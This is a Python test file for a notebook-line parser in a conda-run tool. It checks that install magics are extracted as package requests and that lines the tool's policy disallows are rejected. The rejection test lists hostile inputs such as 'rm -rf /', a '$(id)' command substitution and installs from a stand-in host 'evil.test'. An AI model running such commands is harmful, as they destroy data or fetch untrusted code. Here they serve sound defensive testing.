"""Lines of notebooks."""

from __future__ import annotations

import ast
import contextlib

import pytest
from hypothesis import given
from hypothesis import strategies as st

from mcp_conda_run.errors import RequestError
from mcp_conda_run.planning.inline import Declared
from mcp_conda_run.planning.magics import take_out_magics


def take_out(code: str) -> tuple[str, list[str], list[str]]:
    declared = Declared()
    return take_out_magics(code, declared, "3.12.4"), [p.spec for p in declared.packages], declared.channels


@pytest.mark.parametrize(
    "line",
    [
        "%pip install rich",
        "!pip install rich",
        "!pip3 install -q -U rich",
        "! python -m pip install rich",
        "!{sys.executable} -m pip install rich",
        "!/usr/bin/python3.12 -m pip install --quiet rich",
        "!uv pip install --system rich",
        "!uv add rich",
        "pip install rich",
        "!pip install rich > /dev/null 2>&1",
        "%conda install -y rich",
        "!conda install -c conda-forge -y rich",
        "!mamba install rich -c conda-forge",
        "%mamba install --channel=conda-forge rich",
        "!micromamba install rich",
        "!pixi add rich",
        "conda install rich",
    ],
)
def test_install_lines_are_requests_and_leave_an_empty_statement(line: str):
    code, specs, _ = take_out(f"x = 1\n{line}\ny = 2")
    assert (code, specs) == ("x = 1\npass\ny = 2", ["rich"])


def test_channels_of_an_install_line_are_asked_for():
    assert take_out("!mamba install -c bioconda -c conda-forge pysam")[2] == ["bioconda", "conda-forge"]


def test_versions_and_several_packages_are_kept():
    assert take_out("%pip install 'a>=1,<2' b==3  # two")[1] == ["a<2,>=1", "b==3"]


def test_a_continued_line_keeps_the_number_of_lines():
    code, specs, _ = take_out("%pip install a \\\n    b\nx = 1")
    assert (code, specs) == ("pass\n\nx = 1", ["a", "b"])


def test_an_indented_install_line_keeps_its_block():
    assert take_out("if x:\n    !pip install a\n")[0] == "if x:\n    pass\n"


def test_lines_inside_a_string_stay():
    code = '"""\n!pip install a\n"""\n%pip install b'
    assert take_out(code) == ('"""\n!pip install a\n"""\npass', ["b"], [])


@pytest.mark.parametrize(
    "line", ["%matplotlib inline", "%load_ext autoreload", "%%time", "%%capture", "%config a.b = 1"]
)
def test_harmless_magics_do_nothing(line: str):
    assert take_out(f"{line}\nx = 1")[0] == "pass\nx = 1"


def test_a_timed_statement_runs_untimed():
    assert take_out("%time x = f()")[0] == "x = f()"


@pytest.mark.parametrize(
    "line",
    [
        "!ls",
        "!rm -rf /",
        "%cd /tmp",
        "%%bash",
        "%%writefile x.py",
        "%pip install -r requirements.txt",
        "%pip install --index-url https://evil.test x",
        "%pip install --extra-index-url=https://evil.test x",
        "%pip install -i https://evil.test x",
        "%pip install git+https://evil.test/x",
        "%pip install https://evil.test/x.whl",
        "%pip install ./x",
        "%pip install -e .",
        "!pip install x && rm -rf /",
        "!pip install $(id)",
        "!pip install 'x",
        "!conda install --file x",
        "!conda install -c https://evil.test x",
        "!conda env create -f x.yml",
        "!apt-get install x",
    ],
)
def test_what_a_shell_would_do_or_the_policy_forbids_is_a_clear_error(line: str):
    with pytest.raises(RequestError) as caught:
        take_out(f"x = 1\n{line}")
    assert caught.value.code in {"bad-notebook-line", "bad-package-spec", "bad-metadata"}


@given(st.text())
def test_the_number_of_lines_never_changes(code: str):
    with contextlib.suppress(RequestError):
        assert take_out(code)[0].count("\n") == code.count("\n")


@given(st.lists(st.sampled_from(["x = 1", "%pip install a", "if x:", "    !pip install b", "'''", "# c"]), max_size=8))
def test_python_that_parses_is_the_same_after_its_strings_are_seen(lines: list[str]):
    code = "\n".join(lines)
    try:
        before = ast.dump(ast.parse(code))
    except SyntaxError:
        return
    assert ast.dump(ast.parse(take_out(code)[0])) == before
